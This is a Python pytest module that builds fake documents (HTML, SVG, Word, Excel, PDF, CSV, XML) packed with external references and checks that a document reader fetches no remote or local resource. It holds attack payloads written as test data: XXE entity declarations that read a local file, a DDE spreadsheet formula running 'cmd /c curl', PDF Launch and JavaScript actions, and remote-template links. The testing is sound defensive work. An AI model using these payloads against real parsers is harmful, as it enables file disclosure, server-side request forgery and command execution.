"""Documents that refer to something elsewhere: nothing is fetched, whatever library reads them. All are made up.

The addresses lead to a listener on this machine, so that a library that fetches by itself is noticed as well.
"""

from __future__ import annotations

import io
import socket
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.request import urlopen

import pytest
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.shared import Cm
from lxml import etree
from reportlab.pdfgen.canvas import Canvas

from graph.errors import DataProblems
from loaders.read import ReadError, read_bytes
from loaders.workbook import opening
from tests.documents import files

_KINDS = RELATIONSHIP_TYPE.IMAGE.rpartition("/")[0]
WORDS = "宇陀市は協定を結んだ。"


@dataclass
class Listener:
    """Where all references lead. ``calls``: who came."""

    port: int
    calls: list[Any] = field(default_factory=list)

    def address(self, path: str, scheme: str = "http") -> str:
        return f"{scheme}://127.0.0.1:{self.port}/{path}"


@pytest.fixture(scope="module")
def listener() -> Iterator[Listener]:
    open_ = socket.create_server(("127.0.0.1", 0))
    found = Listener(open_.getsockname()[1])

    def listen() -> None:
        while True:
            try:
                caller, _ = open_.accept()
            except OSError:
                return
            found.calls.append(caller.getpeername())
            caller.close()

    thread = threading.Thread(target=listen, daemon=True)
    thread.start()
    yield found
    open_.shutdown(socket.SHUT_RDWR)
    open_.close()
    thread.join(5)


def web_page(at: Callable[..., str]) -> bytes:
    return (
        f'<!DOCTYPE html SYSTEM "{at("x.dtd")}"><html manifest="{at("m")}"><head><base href="{at("")}"><meta http-equiv=refresh content="0;url={at("r")}">'
        f'<link rel=stylesheet href="{at("a.css")}"><link rel=prefetch href="{at("p")}"><style>@import "{at("b.css")}"</style><script src="{at("s.js")}"></script></head>'
        f'<body background="{at("b.png")}"><p style="background:url({at("c.png")})">{WORDS}</p><img src="{at("i.png")}" srcset="{at("j.png")} 2x"><iframe src="{at("f")}"></iframe>'
        f'<object data="{at("o")}"></object><embed src="{at("e")}"><video src="{at("v")}" poster="{at("w")}"></video><svg><image href="{at("g")}"/><use xlink:href="{at("u.svg#x")}"/></svg>'
        f'<xi:include href="{at("x.xml")}"/><a href="{at("l")}" ping="{at("q")}">l</a></body></html>'
    ).encode()


def saved_mail(at: Callable[..., str]) -> bytes:
    head = f'MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\nContent-Type: message/external-body; access-type=URL; URL="{at("m")}"\n\n'
    return (
        (head + f"--x\nContent-Type: text/html; charset=utf-8\nContent-Location: {at('c')}\n\n").encode()
        + web_page(at)
        + b"\n--x--\n"
    )


def picture(at: Callable[..., str]) -> bytes:
    return (
        f'<?xml version="1.0"?><?xml-stylesheet href="{at("s.xsl")}" type="text/xsl"?><!DOCTYPE svg [<!ENTITY e SYSTEM "{at("e")}"><!ENTITY % p SYSTEM "{at("p")}">%p;]>'
        f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><text>{WORDS}&e;</text><image xlink:href="{at("i.png")}"/></svg>'
    ).encode()


def entities(at: Callable[..., str]) -> str:
    return (
        f'<!DOCTYPE x PUBLIC "x" "{at("x.dtd")}" [<!ENTITY e SYSTEM "{at("e")}"><!ENTITY % p SYSTEM "{at("p")}">%p;]>'
    )


def letter(at: Callable[..., str]) -> bytes:
    """With a template, a picture, a part and an object from elsewhere."""

    def fill(document: Any) -> None:
        document.add_paragraph(WORDS)
        part = document.part
        for kind, name in (
            ("attachedTemplate", "t.dotm"),
            ("image", "i.png"),
            ("aFChunk", "c.html"),
            ("oleObject", "o"),
            ("subDocument", "d.docx"),
            ("frame", "f"),
        ):
            id = part.relate_to(at(name), _KINDS + f"/{kind}", is_external=True)
            body = etree.SubElement(
                document.element.body, "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}altChunk"
            )
            body.set("{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id", id)
        document.part._settings_part.relate_to(at("t.dotm"), _KINDS + "/attachedTemplate", is_external=True)
        document.add_section().page_width = Cm(21)

    raw = files.word(fill)
    field_code = f'<w:p><w:fldSimple w:instr=" INCLUDETEXT {at("t.txt")} "><w:r><w:t>欄</w:t></w:r></w:fldSimple></w:p><w:sectPr'.encode()
    return files.replaced(raw, "word/document.xml", lambda part: part.replace(b"<w:sectPr", field_code, 1))


def letter_with_entities(at: Callable[..., str]) -> bytes:
    raw = files.word(lambda document: document.add_paragraph(WORDS))
    for name in ("word/document.xml", "[Content_Types].xml", "word/_rels/document.xml.rels", "word/styles.xml"):
        raw = files.replaced(raw, name, lambda part: part.replace(b"?>", b"?>" + entities(at).encode(), 1))
    return raw


def workbook(at: Callable[..., str]) -> bytes:
    """With a link to another workbook, a connection, a picture and formulas that ask others."""

    def fill(book: Any) -> None:
        sheet = book.add_worksheet("一覧")
        sheet.write(0, 0, WORDS)
        sheet.write_url(1, 0, at("l"), string="押す")
        sheet.write_formula(2, 0, f'=WEBSERVICE("{at("w")}")', value="x")
        sheet.write_formula(3, 0, f"='{at('b.xlsx')}'!A1", value="x")
        sheet.write_formula(4, 0, f"=cmd|'/c curl {at('d')}'!A1", value="x")
        sheet.write_formula(5, 0, f'=IMAGE("{at("i.png")}")', value="x")

    raw = files.written(fill)
    other = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" TargetMode="External" Target="{}"/></Relationships>'
    for name, part in (
        ("xl/externalLinks/externalLink1.xml", '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook r:id="rId1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/></externalLink>'),
        ("xl/externalLinks/_rels/externalLink1.xml.rels", other.format(at("b.xlsx"))),
        ("xl/connections.xml", f'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" type="4" refreshOnLoad="1"><webPr url="{at("c")}"/></connection></connections>'),
    ):  # fmt: skip
        raw = files.replaced(raw, name, lambda _, part=part: part.encode())  # type: ignore[misc]
    link = '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" Target="{}"{}/></Relationships>'
    more = link.format("externalLink", "externalLinks/externalLink1.xml", "").encode()
    return files.replaced(raw, "xl/_rels/workbook.xml.rels", lambda part: part.replace(b"</Relationships>", more))


def workbook_elsewhere(at: Callable[..., str]) -> bytes:
    """Whose sheet itself is said to lie elsewhere."""
    raw = files.sheet([[WORDS]])
    return files.replaced(raw, "xl/_rels/workbook.xml.rels", lambda part: part.replace(b'Target="/xl/worksheets/sheet1.xml"', f'TargetMode="External" Target="{at("s.xml")}"'.encode()))  # fmt: skip


def workbook_with_entities(at: Callable[..., str]) -> bytes:
    raw = files.written(lambda book: book.add_worksheet("一覧").write(0, 0, WORDS))
    for name in (
        "xl/workbook.xml",
        "xl/worksheets/sheet1.xml",
        "xl/sharedStrings.xml",
        "xl/styles.xml",
        "[Content_Types].xml",
    ):
        raw = files.replaced(raw, name, lambda part: part.replace(b"?>", b"?>" + entities(at).encode(), 1))
    return raw


def paper(at: Callable[..., str]) -> bytes:
    """With actions at its opening and streams, fonts and forms from elsewhere."""
    out = io.BytesIO()
    canvas = Canvas(out, pageCompression=0)
    canvas.setFont(files.MINCHO, 12)
    canvas.drawString(72, 700, WORDS)
    canvas.linkURL(at("l"), (72, 690, 200, 710))
    canvas.save()
    actions = (
        f"/OpenAction<</S/URI/URI({at('o')})/Next[<</S/Launch/F({at('x.exe')})>><</S/GoToR/F<</FS/URL/F({at('g.pdf')})>>/D[0/Fit]>>"
        f"<</S/SubmitForm/F<</FS/URL/F({at('f')})>>>><</S/JavaScript/JS(app.launchURL\\('{at('j')}'\\))>>]>>/AcroForm<</XFA({at('a')})/Fields[]>>/Type /Catalog"
    )
    raw = out.getvalue().replace(b"/Type /Catalog", actions.encode("latin-1"), 1)
    extra = f"90 0 obj<</Type/XObject/Subtype/Image/Length 0/F<</FS/URL/F({at('i')})>>/FFilter/DCTDecode>>stream\n\nendstream endobj\n".encode()
    return raw.replace(b"%PDF-1.3\n", b"%PDF-1.3\n").replace(b"xref\n", extra + b"xref\n", 1)


MADE: dict[str, Callable[[Callable[..., str]], bytes]] = {
    "a.html": web_page, "a.mht": saved_mail, "a.svg": picture, "b.html": picture, "a.docx": letter, "b.docx": letter_with_entities, "a.xlsx": workbook,
    "b.xlsx": workbook_elsewhere, "c.xlsx": workbook_with_entities, "a.pdf": paper,
    "a.md": lambda at: f"# {WORDS}\n\n![x]({at('i.png')}) <img src={at('j.png')}> [l]: {at('l')}\n".encode(),
    "a.csv": lambda at: f'{WORDS},"=WEBSERVICE(""{at("w")}"")",=IMPORTXML("{at("x")}")\n'.encode(),
    "a.xml": lambda at: f'<?xml version="1.0"?>{entities(at)}<x>{WORDS}&e;</x>'.encode(),
}  # fmt: skip


@pytest.mark.parametrize("scheme", ["http", "file"])
@pytest.mark.parametrize("name", MADE)
def test_no_document_makes_the_tool_open_a_connection_or_another_file(
    listener: Listener, name: str, scheme: str, tmp_path: Path
) -> None:
    (tmp_path / "e").write_text("himitsu-no-go-8841", encoding="utf-8")
    made = MADE[name](
        lambda path: f"file://{tmp_path}/{path or 'e'}" if scheme == "file" else listener.address(path, scheme)
    )
    path = tmp_path / name
    path.write_bytes(made)
    try:
        reading = read_bytes(name, made)
    except ReadError as error:
        assert error.detail  # noqa: PT017 - both outcomes are right
    else:
        # Letters within a drawing are no text of a page.
        assert name == "b.html" or WORDS in reading.text.replace("\n", "")
        assert "himitsu" not in reading.text
    if name.endswith(".xlsx"):
        opening.is_ours(path)
        with pytest.raises(DataProblems):
            opening.opened(path)
    assert listener.calls == []


def test_those_that_are_sound_but_for_their_references_are_read(listener: Listener) -> None:
    for name in ("a.html", "a.mht", "a.docx", "a.xlsx", "a.pdf", "a.md", "a.csv"):
        assert WORDS in read_bytes(name, MADE[name](listener.address)).text.replace("\n", ""), name


def test_the_listener_notices_who_comes(listener: Listener) -> None:
    with pytest.raises(OSError), urlopen(listener.address("x.xml"), timeout=5):  # noqa: S310, PT011
        pass
    assert listener.calls
    listener.calls.clear()
